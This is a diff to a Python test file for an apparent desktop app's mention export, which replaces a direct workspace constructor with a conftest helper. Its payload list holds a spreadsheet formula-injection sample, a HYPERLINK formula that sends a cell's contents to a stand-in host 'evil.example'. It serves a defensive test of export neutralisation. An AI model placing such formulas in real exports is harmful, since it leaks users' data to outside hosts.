@@ -15,7 +15,7 @@ import pytest
 
 from engage_desktop.inbox.mention_export import export_mentions, neutralize
 from engage_desktop.inbox.mention_import import import_mentions
-from engage_desktop.workspace.database import Workspace
+from tests.conftest import new_workspace
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -37,7 +37,7 @@ def ws(tmp_path):
     ]
     rows.append({"id": "plain", "text": "A normal post - with a dash inside", "author": "ann"})
     source.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
-    with Workspace.create(path) as workspace:
+    with new_workspace(path) as workspace:
         import_mentions(workspace, source, enrich=False)
         with workspace.write() as cur:
             cur.execute("UPDATE mentions SET sentiment = -0.5")  # a negative number stays one
